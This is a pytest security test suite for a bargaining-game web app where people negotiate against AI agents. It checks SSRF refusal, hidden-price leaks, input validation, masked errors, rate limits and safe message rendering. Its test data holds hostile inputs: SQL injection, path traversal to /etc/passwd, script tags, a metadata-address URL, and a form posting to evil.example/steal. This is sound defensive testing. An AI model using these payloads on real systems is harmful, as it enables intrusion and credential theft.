"""The arena under attack: what a hostile caller, a broken database or a failing model must not achieve.

Kept in CI so that each of these stays fixed: no outbound call on a caller's say-so, no hidden
price by any path (every payload of every condition, role and mode), every request parameter
checked before anything is stored, no round applied that was not stored, no page left stuck
after a failure, no raw exception text sent to a client, limits on what one client can do.
(The parser's time bound on adversarial replies is in test_replies.py.)
"""

from __future__ import annotations

import asyncio
import json
import os
import re
import sqlite3
import subprocess
import sys
import time
from datetime import timedelta
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import httpx
import pytest
from arena_helpers import admin, browser_page, launch, play_out, says, serve, start, stored
from cli_runner import run_main
from gradio_client import Client

from bargain import app as arena_app
from bargain.agents.arms import resolve
from bargain.agents.backends import BackendError, Backends, Completion
from bargain.agents.backends.canned import CannedBackend, canned_reply
from bargain.agents.stub_server import serve_in_thread
from bargain.arena.controller import ALREADY_PLAYED, Arena, ArenaError, Setup
from bargain.arena.limits import AdminGate, RateLimit, StartLimits
from bargain.arena.views import plain
from bargain.engine.trial import Mode, Role
from bargain.records.store import Store, StoreError
from bargain.web.arena_page import ArenaPage, Options
from bargain.web.common import keep, kept

ROOT = Path(__file__).resolve().parents[1]
SECRETS = ("http://", "https://", "SELECT", "INSERT", "Traceback", "sqlite", "Error:")


# --- a server that must receive nothing -----------------------------------------------------------


class Recorder:
    """An HTTP server that records every request it gets (method, path, headers), answering 404."""

    def __init__(self):
        self.requests: list[tuple[str, str, dict]] = []
        recorder = self

        class Handler(BaseHTTPRequestHandler):
            def log_message(self, *args):
                pass

            def _any(self):
                recorder.requests.append((self.command, self.path, dict(self.headers)))
                self.send_response(404)
                self.end_headers()

            do_GET = do_POST = do_PUT = _any

        self.httpd = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.httpd.server_address[1]}/v1"
        serve_in_thread(self.httpd)

    def close(self):
        self.httpd.shutdown()
        self.httpd.server_close()


@pytest.fixture
def recorder():
    server = Recorder()
    yield server
    server.close()


def test_a_caller_cannot_make_the_server_call_an_endpoint(tmp_path, recorder, monkeypatch):
    monkeypatch.setenv("OPENAI_API_KEY", "sk-the-servers-own-key")
    running = launch(tmp_path / "arena.db")
    try:
        client = Client(running.url, verbose=False)
        for spec in (f"openai:gpt-5@{recorder.url}", f"openai:x@{recorder.url}/", "openai:x@http://169.254.169.254/v1"):
            with pytest.raises(Exception, match="(?i)not an opponent offered here"):
                start(client, opponent=spec)
        assert recorder.requests == []
        assert Store(f"sqlite:///{tmp_path / 'arena.db'}").games_frame().empty
    finally:
        running.demo.close()


def test_the_controller_and_the_backends_refuse_unconfigured_endpoints(tmp_path, recorder, monkeypatch):
    monkeypatch.setenv("OPENAI_API_KEY", "sk-the-servers-own-key")
    spec = f"openai:gpt-5@{recorder.url}"
    with pytest.raises(BackendError, match="not configured"):
        Backends().for_arm(resolve(spec))

    async def scenario():
        # Even an arena told to offer the arm cannot reach an endpoint its backends were not configured with.
        arena = Arena(Store(f"sqlite:///{tmp_path / 'a.db'}"), Backends(), arms=[spec, "tactic:linear"])
        with pytest.raises(ArenaError, match="cannot play right now"):
            await arena.start(Setup(arm=spec))
        with pytest.raises(ArenaError, match="not an opponent offered here"):
            await arena.start(Setup(arm="openai:other@http://127.0.0.1:9/v1"))

    asyncio.run(scenario())
    assert recorder.requests == []
    configured = Backends(remote=[recorder.url + "/"], api_key="sk-configured").for_arm(resolve(spec))
    assert configured.api_key == "sk-configured" and configured.base_url == recorder.url


def test_a_configured_remote_model_is_offered_by_its_name_and_its_url_is_shown_nowhere(tmp_path, monkeypatch):
    """Two servers of one model: offered as openai:MODEL#1 and #2, the name a page or an API caller sends back
    picks its server (and reaches it with the configured key); the URLs appear in nothing a player reads: the page
    as sent, refusals, views, the Results tab's tables and figure, the form of a resumed game."""
    from types import SimpleNamespace

    from bargain.agents.stub_server import StubServer
    from bargain.arena.results import my_games, per_arm, results_figure

    monkeypatch.setenv("OPENAI_API_KEY", "sk-configured")
    with StubServer(["gpt-remote"]) as one, StubServer(["gpt-remote"]) as two:
        specs = [f"openai:gpt-remote@{one.url}", f"openai:gpt-remote@{two.url}"]
        hosts = [server.url.removeprefix("http://").removesuffix("/v1") for server in (one, two)]  # 127.0.0.1:PORT
        running = launch(tmp_path / "arena.db", "--remote-model", specs[0], "--remote-model", specs[1])

        def shown(*texts: str) -> str:
            text = "\n".join(texts)
            assert not any(host in text for host in hosts), text
            return text

        try:
            for path in ("", "config", "gradio_api/info"):  # the page and its configuration, as every browser gets them
                shown(httpx.get(running.url + path, timeout=30).text)
            (dropdown,) = [c for c in running.demo.config["components"] if c["props"].get("label") == "Opponent"]
            offered = [value for _, value in dropdown["props"]["choices"] if value.startswith("openai:")]
            assert offered == ["openai:gpt-remote#1", "openai:gpt-remote#2"]
            client = Client(running.url, verbose=False)
            for refused in (*specs, "openai:gpt-remote"):  # a URL, even one configured, is no opponent's name
                with pytest.raises(Exception, match="(?i)not an opponent offered here") as refusal:
                    start(client, opponent=refused)
                offered_here = str(refusal.value).split("choose one of: ")[1]  # after the caller's own value
                assert "openai:gpt-remote#2" in shown(offered_here)
            views = play_out(client, start(client, opponent="openai:gpt-remote#2", role="buyer", player="p1"))
            shown(*(json.dumps(view) for view in views))
            assert views[-1]["status"] == "finished" and stored(running.db, views[-1]["game_id"])["arm"] == specs[1]
            assert not one.requests and two.requests and all(r["model"] == "gpt-remote" for r in two.requests)
            assert set(two.authorizations) == {"Bearer sk-configured"}

            arena = running.arena
            mine, everyone = my_games(arena, "p1"), per_arm(arena)
            figure = results_figure(everyone)
            ticks = [label.get_text() for label in figure.axes[0].get_xticklabels()]
            shown(mine.to_csv(), everyone.to_csv(), *ticks)
            assert list(mine["opponent"]) == list(everyone["opponent"]) == ticks == ["openai:gpt-remote#2"]

            resume = next(f.fn for f in running.demo.fns.values() if f.fn.__name__ == "resume")
            kept_ids = keep("test-secret", "p1", views[-1]["game_id"])

            async def resumed() -> list[dict]:
                return [update async for update in resume(kept_ids, SimpleNamespace(query_params={}))]

            (page,) = asyncio.run(resumed())
            form = {getattr(component, "label", None): value for component, value in page.items()}
            assert form["Opponent"] == "openai:gpt-remote#2"
            shown(json.dumps(list(page.values()), default=str))
        finally:
            running.demo.close()
        running.arena.store.engine.dispose()
        stale = Arena(Store(f"sqlite:///{running.db}"), Backends(), arms=["tactic:linear"])  # a server no longer
        assert list(my_games(stale, "p1")["opponent"]) == ["openai:gpt-remote"]  # offering it: the name alone


# --- the seed is the server's ----------------------------------------------------------------------


def test_the_public_api_takes_no_seed_and_the_server_draws_one(tmp_path):
    running = launch(tmp_path / "arena.db")
    try:
        info = httpx.get(running.url + "gradio_api/info", timeout=30).json()
        parameters = {p["parameter_name"] for p in info["named_endpoints"]["/start_game"]["parameters"]}
        assert "seed" not in parameters and {"role", "opponent", "condition"} <= parameters
        client = Client(running.url, verbose=False)
        with pytest.raises(TypeError, match="`seed` is not a valid key-word argument"):
            client.predict(seed=12345, api_name="/start_game")
        seeds = {stored(running.db, start(client)["game_id"])["seed"] for _ in range(5)}
        assert len(seeds) == 5 and all(isinstance(s, int) for s in seeds)
    finally:
        running.demo.close()


# --- the leak scan: every payload, every condition, role and mode ----------------------------------


HIDDEN = {"buyer": ("buyer_unaware", "both_unaware"), "seller": ("seller_unaware", "both_unaware")}


def mentions(text: str, value: float) -> bool:
    """Whether `text` holds the number `value` written as a number (2.4, 2.40, 2.400), not inside another."""
    return (
        re.search(rf"(?<![0-9.]){re.escape(repr(float(value)).removesuffix('.0'))}(?:\.0+|0+)?(?!\.?[0-9])", text)
        is not None
    )


@pytest.mark.slow
def test_the_hidden_price_reaches_the_person_only_in_the_debrief(tmp_path, monkeypatch):
    """Everything the server sends (page, config, API info, every event output) before the debrief."""
    from gradio.blocks import Blocks

    sent: list[str] = []
    original = Blocks.process_api

    async def recording(self, *args, **kwargs):
        output = await original(self, *args, **kwargs)
        sent.append(json.dumps(output["data"], default=str))
        return output

    monkeypatch.setattr(Blocks, "process_api", recording)
    running = launch(tmp_path / "arena.db")
    try:

        def pages() -> list[str]:  # what a page load fetches, while the game is on (minus the markup's own digits)
            return [
                re.sub(r"<[^>]*>|[a-z]+-[0-9]+", "", httpx.get(running.url + path, timeout=30).text)
                for path in ("config", "gradio_api/info")
            ]

        client = Client(running.url, verbose=False)
        static = pages()  # before any game: a number already written here (3 in "Qwen3-8B") proves nothing
        checked = 0
        for mode in ("simultaneous", "sequential"):
            for role, conditions in HIDDEN.items():
                for condition in conditions:
                    for _ in range(30):
                        first = start(client, role=role, condition=condition, mode=mode, opponent="tactic:hardliner")
                        row = stored(running.db, first["game_id"])
                        hidden = row["seller_price" if role == "buyer" else "buyer_price"]
                        own = first["your_price"]
                        visible = json.dumps(
                            {
                                k: first[k]
                                for k in (
                                    "item",
                                    "description",
                                    "persona",
                                    "your_price",
                                    "their_price_prior",
                                    "your_price_prior",
                                )
                            }
                        )
                        planned = [
                            round(own * (0.6 + 0.1 * r) if role == "buyer" else own * (1.6 - 0.1 * r), 2)
                            for r in range(1, 5)
                        ]  # the person's offers (arena_helpers.play)
                        if mentions(visible, hidden) or hidden in planned or any(mentions(t, hidden) for t in static):
                            # a coincidence: the number means more
                            continue
                        sent.clear()
                        views = play_out(client, first)
                        said = [t for v in views for t in v["transcript"] if t["speaker"] == "agent"]
                        if any(t["price"] == hidden or mentions(t["message"] or "", hidden) for t in said):
                            continue  # the agent offered its own limit (a tactic may): its move, not a leak
                        before_end = [json.dumps(v) for v in views[:-1]] + sent[:-1]
                        leaks = [text for text in before_end + pages() if mentions(text, hidden)]
                        assert not leaks, (mode, role, condition, hidden, leaks)
                        assert views[-1]["debrief"]["agent_price"] == hidden and mentions(json.dumps(views[-1]), hidden)
                        assert first["their_price"] is None
                        checked += 1
                        break
        assert checked == 8
    finally:
        running.demo.close()


# --- every API parameter is checked before anything is stored ----------------------------------------


@pytest.fixture(scope="module")
def shared(tmp_path_factory):
    """One app for the bad-input table, with one game in progress."""
    running = launch(tmp_path_factory.mktemp("bad-input") / "arena.db")
    running.client = Client(running.url, verbose=False)
    running.game = start(running.client, opponent="tactic:hardliner", rounds=20)
    yield running
    running.demo.close()


START = {
    "role": "buyer",
    "opponent": "tactic:linear",
    "condition": "both_unaware",
    "mode": "simultaneous",
    "rounds": 4,
    "scenario": "low",
    "prompt_version": "train",
    "player": None,
    "first_actor": "buyer",
    "start_id": None,
}
MOVE = ["game_id", "round", "action", "price", "message"]


def raw(url: str, api: str, data: list) -> tuple[int, dict]:
    """A call as any program can make it, with no client library in between (lone surrogates included)."""
    response = httpx.post(
        f"{url}gradio_api/run/{api}",
        content=json.dumps({"data": data}),
        headers={"content-type": "application/json"},
        timeout=60,
    )
    return response.status_code, response.json()


def counts(db) -> tuple[int, int]:
    store = Store(f"sqlite:///{db}")
    return len(store.games_frame()), len(store.moves_frame())


BAD_STARTS = [
    ({"role": "king"}, "role must be one of buyer, seller"),
    ({"role": 1}, "role must be one of"),
    ({"opponent": "arm:no-such"}, "not an opponent offered here"),
    ({"opponent": "x" * 100_000}, "choose an opponent offered on the page"),
    ({"opponent": None}, "choose an opponent"),
    ({"condition": "nope"}, "condition must be one of"),
    ({"mode": None}, "mode must be one of"),
    ({"rounds": 3.7}, "rounds must be a whole number"),
    ({"rounds": "٣"}, "rounds must be a whole number"),
    ({"rounds": "4; DROP TABLE games"}, "rounds must be a whole number"),
    ({"rounds": True}, "rounds must be a whole number"),
    ({"rounds": 0}, "rounds must be between 1 and 20"),
    ({"rounds": 21}, "rounds must be between 1 and 20"),
    ({"rounds": 10**30}, "rounds must be between 1 and 20"),
    ({"scenario": "../../etc/passwd"}, "the scenario must be one of"),
    ({"scenario": "x" * 10_000}, "the scenario must be one of"),
    ({"scenario": "low:9999999"}, "that scenario does not exist"),
    ({"prompt_version": "v9"}, "prompt_version must be one of"),
    ({"player": "x" * 100_000}, "the player id must be 1 to 64"),
    ({"player": "<script>alert(1)</script>"}, "the player id must be"),
    ({"player": "=HYPERLINK"}, "the player id must be"),
    ({"player": 12}, "the player id must be"),
    ({"player": "ab\ud800"}, "the player id must be"),
    ({"first_actor": "nobody"}, "first_actor must be one of"),
    ({"start_id": "short"}, "the start id must be 16 to 64"),
    ({"start_id": "x" * 100_000}, "the start id must be 16 to 64"),
    ({"start_id": "<script>alert(1)</script>"}, "the start id must be"),
    ({"start_id": 12}, "the start id must be"),
]


@pytest.mark.parametrize("change, match", BAD_STARTS, ids=[str(i) for i in range(len(BAD_STARTS))])
def test_bad_start_parameters_are_refused_and_store_nothing(shared, change, match):
    before = counts(shared.db)
    status, answer = raw(shared.url, "start_game", list({**START, **change}.values()))
    assert status != 200 and says(answer["error"], match), answer
    assert not any(secret in answer["error"] for secret in ("Traceback", "ValueError", "sqlite"))
    assert counts(shared.db) == before


def move_args(view, **change):
    return {
        "game_id": view["game_id"],
        "round": view["round"],
        "action": "OFFER",
        "price": "1.00",
        "message": "",
        **change,
    }


BAD_MOVES = [
    ({"game_id": "nope"}, "no such game"),
    ({"game_id": None}, "no such game"),
    ({"game_id": "0" * 10_000}, "no such game"),
    ({"round": None}, "the round must be a whole number"),
    ({"round": 1.5}, "the round must be a whole number"),
    ({"round": "١"}, "the round must be a whole number"),
    ({"round": 2}, "that move was for round 2"),
    ({"action": "HACK"}, "unknown action"),
    ({"action": None}, "unknown action"),
    ({"action": "INVALID"}, "choose OFFER, DEAL or NO_DEAL"),
    ({"action": "DEAL"}, "DEAL is not possible now"),
    ({"price": "1,2,3"}, "'1,2,3' is not a price"),
    ({"price": "1_000"}, "'1_000' is not a price"),
    ({"price": "1e3"}, "'1e3' is not a price"),
    ({"price": "٣"}, "is not a price"),
    ({"price": "nan"}, "is not a price"),
    ({"price": "-2"}, "is not a price"),
    ({"price": "0"}, "at least 0.01"),
    ({"price": ""}, "enter a price"),
    ({"price": "9" * 1000}, "characters long"),
    ({"price": True}, "must be a number"),
    ({"price": [1]}, "must be a number"),
    ({"price": "99999999"}, "far more than anything in this game is worth"),
    ({"price": 1e300}, "absurdly large"),
    ({"message": "x" * 501}, "the limit is 500"),
    ({"message": "hello \ud800 there"}, "broken Unicode"),
    ({"message": "nul\x00byte"}, "control characters"),
    ({"message": 123}, "the message must be text"),
]


@pytest.mark.parametrize("change, match", BAD_MOVES, ids=[str(i) for i in range(len(BAD_MOVES))])
def test_bad_moves_are_refused_and_store_nothing(shared, change, match):
    before = counts(shared.db)
    view = shared.client.predict(game_id=shared.game["game_id"], api_name="/get_game")
    status, answer = raw(shared.url, "play_move", [move_args(view, **change)[name] for name in MOVE])
    assert status != 200 and says(answer["error"], match), answer
    assert counts(shared.db) == before
    assert shared.client.predict(game_id=shared.game["game_id"], api_name="/get_game") == view  # still readable


@pytest.mark.parametrize(
    "typed, value", [("2,50", 2.5), ("$2.50", 2.5), ("2.50 €", 2.5), ("1,00", 1.0), ("USD 3", 3.0)]
)
def test_prices_are_read_as_a_person_means_them(shared, typed, value):
    view = start(shared.client, opponent="tactic:hardliner")
    after = shared.client.predict(**move_args(view, price=typed), api_name="/play_move")
    assert [t["price"] for t in after["transcript"] if t["speaker"] == "you"] == [value]
    assert [m["price"] for m in stored(shared.db, view["game_id"])["moves"] if m["actor"] == "human"] == [value]


def test_a_move_without_a_round_is_refused_and_a_double_submit_plays_once(tmp_path):
    async def scenario():
        arena = Arena(Store(f"sqlite:///{tmp_path / 'a.db'}"), Backends())
        with pytest.raises(ArenaError, match="whole number"):
            view = await arena.start(Setup(arm="tactic:hardliner", rounds=20))
            await arena.move(view.game_id, None, "OFFER", "1")
        for _ in range(20):
            view = await arena.start(Setup(arm="tactic:hardliner", rounds=4))
            results = await asyncio.gather(*(arena.move(view.game_id, 1, "OFFER", "1.5", "once") for _ in range(2)))
            assert sorted(r.notice or "" for r in results) == ["", ALREADY_PLAYED]  # the second: the game as stored
            assert results[0].transcript == results[1].transcript
            assert len(arena.store.game(view.game_id)["moves"]) == 2

    asyncio.run(scenario())


# --- storage that fails ------------------------------------------------------------------------------


def test_a_locked_database_pauses_the_game_and_the_same_move_works_once_it_is_free(tmp_path):
    path = tmp_path / "a.db"

    async def scenario():
        arena = Arena(Store(f"sqlite:///{path}", busy_timeout_s=0.3), Backends())
        view = await arena.start(Setup(arm="tactic:hardliner"))
        game_id = view.game_id
        view = await arena.move(game_id, 1, "OFFER", "0.01", "first")
        holder = sqlite3.connect(path, isolation_level=None)
        holder.execute("BEGIN EXCLUSIVE")  # another writer holds the database
        began = time.perf_counter()
        paused = await arena.move(game_id, 2, "OFFER", "0.02", "second")
        waited = time.perf_counter() - began
        assert waited >= 0.25  # the busy timeout was honoured before giving up
        assert "paused" in paused.error and "cannot save" in paused.error
        assert paused.round == 2 and paused.transcript == view.transcript and paused.your_turn
        assert paused.status == "active" and paused.outcome is None
        assert await arena.view(game_id) == paused or (await arena.view(game_id)).round == 2
        holder.execute("ROLLBACK")
        holder.close()
        assert len(arena.store.game(game_id)["moves"]) == 2
        resumed = await arena.move(game_id, 2, "OFFER", "0.02", "second")
        assert resumed.error is None and resumed.round == 3
        rows = arena.store.game(game_id)["moves"]
        assert [(m["round"], m["message"]) for m in rows if m["actor"] == "human"] == [(1, "first"), (2, "second")]
        while resumed.status == "active":
            resumed = await arena.move(game_id, resumed.round, "OFFER", "1.00", "")
        final = arena.store.game(game_id)
        assert final["status"] == "finished" and len(final["moves"]) == len(resumed.transcript)

    asyncio.run(scenario())


def test_a_final_round_that_cannot_be_stored_does_not_end_the_game(tmp_path):
    path = tmp_path / "a.db"

    async def scenario():
        arena = Arena(Store(f"sqlite:///{path}", busy_timeout_s=0.2), Backends())
        view = await arena.start(Setup(arm="tactic:hardliner", rounds=1))
        holder = sqlite3.connect(path, isolation_level=None)
        holder.execute("BEGIN EXCLUSIVE")
        paused = await arena.move(view.game_id, 1, "NO_DEAL", None, "")
        assert paused.status == "active" and paused.debrief is None and "paused" in paused.error
        holder.execute("ROLLBACK")
        holder.close()
        # A reload after the failure shows the same paused game, not a debrief the store never got.
        assert (await arena.view(view.game_id)).debrief is None
        final = await arena.move(view.game_id, 1, "NO_DEAL", None, "")
        assert final.status == "finished" and final.debrief is not None
        assert arena.store.game(view.game_id)["status"] == "finished"

    asyncio.run(scenario())


FULL_DISK = r"""
import asyncio, json, resource, signal, sys
from bargain.arena.controller import Arena, Setup
from bargain.agents.backends import Backends
from bargain.records.store import Store

signal.signal(signal.SIGXFSZ, signal.SIG_IGN)  # a write past the limit fails with EFBIG instead of killing us
path = sys.argv[1]

async def main():
    arena = Arena(Store(f"sqlite:///{path}"), Backends())
    view = await arena.start(Setup(arm="tactic:hardliner"))
    view = await arena.move(view.game_id, 1, "OFFER", "0.01", "first")
    soft, hard = resource.getrlimit(resource.RLIMIT_FSIZE)
    resource.setrlimit(resource.RLIMIT_FSIZE, (1, hard))  # the disk is full: no file can grow
    paused = await arena.move(view.game_id, 2, "OFFER", "0.02", "x" * 400)
    again = await arena.view(view.game_id)
    resource.setrlimit(resource.RLIMIT_FSIZE, (soft, hard))
    resumed = await arena.move(view.game_id, 2, "OFFER", "0.02", "x" * 400)
    stored = arena.store.game(view.game_id)
    shown = {"paused": paused, "again": again, "resumed": resumed}
    print(json.dumps({**{k: v.to_json() for k, v in shown.items()}, "moves": len(stored["moves"])}))

asyncio.run(main())
"""


@pytest.mark.slow
def test_a_full_disk_pauses_the_game_and_it_goes_on_once_there_is_room(tmp_path):
    result = subprocess.run(
        [sys.executable, "-c", FULL_DISK, str(tmp_path / "a.db")], capture_output=True, text=True, timeout=120, cwd=ROOT
    )
    assert result.returncode == 0, result.stderr[-2000:]
    out = json.loads(result.stdout.strip().splitlines()[-1])
    assert "paused" in out["paused"]["error"] and out["paused"]["round"] == 2
    assert len(out["paused"]["transcript"]) == 2 and out["again"]["round"] == 2
    assert out["resumed"]["error"] is None and out["resumed"]["round"] == 3 and out["moves"] == 4


def test_a_game_that_cannot_be_created_is_not_started(tmp_path):
    path = tmp_path / "a.db"

    async def scenario():
        arena = Arena(Store(f"sqlite:///{path}", busy_timeout_s=0.1), Backends())
        holder = sqlite3.connect(path, isolation_level=None)
        holder.execute("BEGIN EXCLUSIVE")
        with pytest.raises(ArenaError, match="cannot save games right now") as refused:
            await arena.start(Setup())
        assert not any(secret in str(refused.value) for secret in SECRETS)
        assert arena.live == {}
        holder.execute("ROLLBACK")

    asyncio.run(scenario())


@pytest.mark.slow
def test_a_read_only_database_stops_the_app_with_one_line(tmp_path):
    path = tmp_path / "a.db"
    Store(f"sqlite:///{path}").engine.dispose()
    result = run_main(arena_app.main, "--db", f"sqlite:///file:{path}?mode=ro&uri=true")
    assert result.returncode != 0
    assert "Traceback" not in result.stderr and "error:" in result.stderr and "read" in result.stderr.lower()


# --- a model that fails ------------------------------------------------------------------------------


class Switchable(CannedBackend):
    """Canned replies while `up`; while down, every completion fails with a message full of internals."""

    name = "switchable"
    instant = False

    def __init__(self):
        self.up = True

    async def complete(self, request):
        if not self.up:
            raise BackendError("cannot reach http://10.0.0.7:8000/v1 (raw reply: 'I think my floor is 4.21')")
        return Completion(
            text=canned_reply(request.messages),
            prompt_tokens=1,
            completion_tokens=1,
            latency_s=0.0,
            model=request.model,
            finish_reason="stop",
        )


def test_after_an_agent_failure_the_person_can_retry_and_the_game_stays_resumable(tmp_path):
    async def scenario():
        backend = Switchable()
        arena = Arena(Store(f"sqlite:///{tmp_path / 'a.db'}"), Backends(backend))
        # Sequential, the agent opens: its first move fails, the person waits on a retry.
        backend.up = False
        view = await arena.start(Setup(role=Role.SELLER, arm="arm:base", mode=Mode.SEQUENTIAL))
        assert "unavailable" in view.error and "saved" in view.error
        assert view.retry and not view.your_turn and view.status == "active"
        assert not any(secret in json.dumps(view.to_json()) for secret in ("10.0.0.7", "4.21", "BackendError"))
        again = await arena.view(view.game_id, wait_s=5)  # a reload retries, and says so while it fails
        assert again.retry and "unavailable" in again.error
        backend.up = True
        resumed = await arena.view(view.game_id, wait_s=5)
        assert resumed.error is None and resumed.your_turn and len(resumed.transcript) == 1
        # Simultaneous: the round fails after the person's move; the person moves again.
        backend.up = False
        sim = await arena.start(Setup(role=Role.BUYER, arm="arm:base"))
        failed = await arena.move(sim.game_id, 1, "OFFER", "1.00", "hi")
        assert failed.your_turn and failed.actions == ["OFFER", "NO_DEAL"] and not failed.retry
        assert "unavailable" in failed.error and failed.transcript == []
        backend.up = True
        moved = await arena.move(sim.game_id, 1, "OFFER", "1.00", "hi")
        assert moved.error is None and moved.round == 2

    asyncio.run(scenario())


@pytest.mark.slow
def test_a_failing_model_leaves_the_page_usable(tmp_path):
    backend = Switchable()
    arena = Arena(Store(f"sqlite:///{tmp_path / 'a.db'}"), Backends(backend))
    options = Options({spec: True for spec in arena.arms}, browser_secret="k")
    running = serve(ArenaPage(arena, options).build().queue(), arena)
    try:
        with browser_page(running.url) as page:
            page.get_by_label("Opponent").click()
            page.get_by_role("option", name="arm:base").click()
            backend.up = False  # the model server is down from the start
            page.get_by_role("button", name="Start game").click()
            page.wait_for_selector("text=The other side is unavailable", timeout=20000)
            page.get_by_role("textbox", name="Price").fill("1.00")
            page.get_by_role("button", name="Offer", exact=True).click()
            page.wait_for_timeout(1000)
            page.wait_for_selector("text=The other side is unavailable", timeout=20000)
            assert page.get_by_role("button", name="Offer", exact=True).is_enabled()
            assert page.get_by_role("textbox", name="Price").input_value() == "1.00"  # kept for the retry
            assert "10.0.0.7" not in page.content() and "Round 1 of 4" in page.inner_text("body")
            page.reload()  # the game and the message are still there
            page.wait_for_selector("text=The other side is unavailable", timeout=20000)
            assert "Round 1 of 4" in page.inner_text("body")
            backend.up = True
            page.get_by_role("textbox", name="Price").fill("1.00")
            page.get_by_role("button", name="Offer", exact=True).click()
            page.wait_for_selector("text=Round 2 of 4", timeout=20000)
            assert "unavailable" not in page.inner_text("body")
    finally:
        running.demo.close()


# --- only the project's own words reach a client -------------------------------------------------------


def test_internal_errors_reach_clients_only_as_the_projects_own_sentences(tmp_path, monkeypatch):
    running = launch(tmp_path / "arena.db")
    try:
        client = Client(running.url, verbose=False)
        view = start(client)

        def broken(*args, **kwargs):
            raise RuntimeError("SELECT buyer_price, seller_price FROM games -- 4.21 at http://10.0.0.7:8000")

        monkeypatch.setattr(running.arena.store, "add_moves", broken)
        paused = client.predict(
            game_id=view["game_id"], round=1, action="OFFER", price="1.00", message="", api_name="/play_move"
        )
        monkeypatch.setattr(running.arena, "start", broken)
        with pytest.raises(Exception) as refused:
            start(client)
        for text in (json.dumps(paused), str(refused.value)):
            assert not any(secret in text for secret in SECRETS + ("4.21", "10.0.0.7")), text
        assert "went wrong on the server" in str(refused.value)
        assert "unavailable" in paused["error"] or "paused" in paused["error"]
    finally:
        running.demo.close()


def test_a_lone_surrogate_from_a_model_never_breaks_a_game(tmp_path):
    class Surrogates(CannedBackend):
        async def complete(self, request):
            text = canned_reply(request.messages).replace('"message": "', '"message": "\\ud800 ')
            return Completion(
                text=text + "\ud800", prompt_tokens=0, completion_tokens=0, latency_s=0.0, model=request.model
            )

    arena = Arena(Store(f"sqlite:///{tmp_path / 'a.db'}"), Backends(Surrogates()))
    running = serve(ArenaPage(arena, Options({s: True for s in arena.arms}, browser_secret="k")).build().queue(), arena)
    try:
        client = Client(running.url, verbose=False)
        final = play_out(client, start(client, opponent="arm:base"))[-1]
        assert final["status"] == "finished"
        assert client.predict(game_id=final["game_id"], api_name="/get_game")["status"] == "finished"
        json.dumps(arena.store.game(final["game_id"]), default=str).encode("utf-8")
    finally:
        running.demo.close()


# --- limits ----------------------------------------------------------------------------------------------


class Clock:
    def __init__(self):
        self.now = 1000.0

    def __call__(self):
        return self.now


def test_rate_limits_hold_per_key_and_slide(tmp_path):
    clock = Clock()
    store = Store(f"sqlite:///{tmp_path / 'a.db'}")
    limit = RateLimit("test", 3, 60)

    def wait_s(key: str) -> float:
        with store.writing("test") as session:
            return limit.wait_s(session, key, clock.now)

    for _ in range(3):
        assert wait_s("a") == 0
        with store.writing("test") as session:
            limit.add(session, "a", clock.now)
    assert wait_s("a") == pytest.approx(60) and wait_s("b") == 0
    clock.now += 30
    assert wait_s("a") == pytest.approx(30)
    clock.now += 30.5
    assert wait_s("a") == 0
    starts = StartLimits(store, per_browser=2, per_address=3, clock=clock)
    starts.check("b1", "addr")
    starts.check("b1", "addr")
    with pytest.raises(ArenaError, match="Too many games"):
        starts.check("b1", "addr")
    starts.check("b2", "addr")
    with pytest.raises(ArenaError, match="Too many games"):
        starts.check("b3", "addr")  # the address is full although b3 is new


def test_the_admin_password_is_unicode_constant_time_and_throttled(tmp_path):
    clock = Clock()
    store = Store(f"sqlite:///{tmp_path / 'a.db'}")
    gate = AdminGate("pässwörd 🔑", store, clock)
    gate.check("pässwörd 🔑", "1.2.3.4")
    for given in ("wrong", "", None, "pässwörd"):  # three free, then a wait
        with pytest.raises(ArenaError, match="Wrong admin password"):
            gate.check(given, "1.2.3.4")
    with pytest.raises(ArenaError, match="Too many wrong passwords"):
        gate.check("pässwörd 🔑", "1.2.3.4")  # even the right one, while throttled
    gate.check("pässwörd 🔑", "5.6.7.8")  # another address is not throttled
    clock.now += 10
    with pytest.raises(ArenaError, match="Wrong admin password"):
        gate.check("\ud800", "1.2.3.4")
    clock.now += 20
    gate.check("pässwörd 🔑", "1.2.3.4")
    with pytest.raises(ArenaError, match="disabled"):
        AdminGate(None, store).check("anything", "1.2.3.4")


def test_one_client_cannot_start_games_without_end(tmp_path):
    running = launch(tmp_path / "arena.db", "--games-per-hour", "3", "--games-per-hour-per-address", "5")
    try:
        client = Client(running.url, verbose=False)
        for _ in range(3):
            start(client)
        with pytest.raises(Exception, match="Too many games started"):
            start(client)
        other = Client(running.url, verbose=False)  # a new session from the same address: the same API caller
        with pytest.raises(Exception, match="Too many games started"):
            start(other)
        assert len(Store(f"sqlite:///{tmp_path / 'arena.db'}").games_frame()) == 3
    finally:
        running.demo.close()


# --- what the browser holds and shows ------------------------------------------------------------------


def test_the_browser_secret_stays_on_the_server(tmp_path):
    running = launch(tmp_path / "arena.db")
    try:
        for path in ("", "config", "gradio_api/info"):
            assert "test-secret" not in httpx.get(running.url + path, timeout=30).text
    finally:
        running.demo.close()
    signed = keep("server-key", "player1", "a" * 32)
    assert kept("server-key", signed) == {"player": "player1", "game": "a" * 32}
    for forged in (
        {**signed, "player": "someone-else"},
        {**signed, "game": "b" * 32},
        {**signed, "sig": "0" * 64},
        keep("other-key", "player1", "a" * 32),
        None,
        "junk",
        {"player": 3},
    ):
        fresh = kept("server-key", forged)
        assert fresh["game"] is None and fresh["player"] != "someone-else"


HOSTILE = (
    '<form action="http://evil.example/steal"><input name="a"><button>Claim</button></form> '
    '<img src="http://evil.example/pixel.png"> ![x](http://evil.example/md.png) '
    "[click](javascript:alert(1)) $$x$$ **bold**"
)


def test_plain_shows_text_as_typed():
    rendered = plain(HOSTILE)
    assert "<form" not in rendered and "<img" not in rendered and "](" not in rendered
    assert plain("2.50") == "2\\.50" and plain("a & b < c") == "a &amp; b &lt; c"


@pytest.mark.slow
def test_messages_render_as_text_and_load_nothing_remote(tmp_path):
    running = launch(tmp_path / "arena.db")
    try:
        with browser_page(running.url) as page:
            remote: list[str] = []
            page.on("request", lambda r: remote.append(r.url) if "evil.example" in r.url else None)
            page.get_by_role("button", name="Start game").click()
            page.wait_for_selector("text=Round 1 of 4", timeout=20000)
            page.get_by_role("textbox", name="Your message (optional)").fill(HOSTILE)
            page.get_by_role("textbox", name="Price").fill("0.01")
            page.get_by_role("button", name="Offer", exact=True).click()
            page.wait_for_selector("text=Round 2 of 4", timeout=20000)
            page.wait_for_timeout(500)
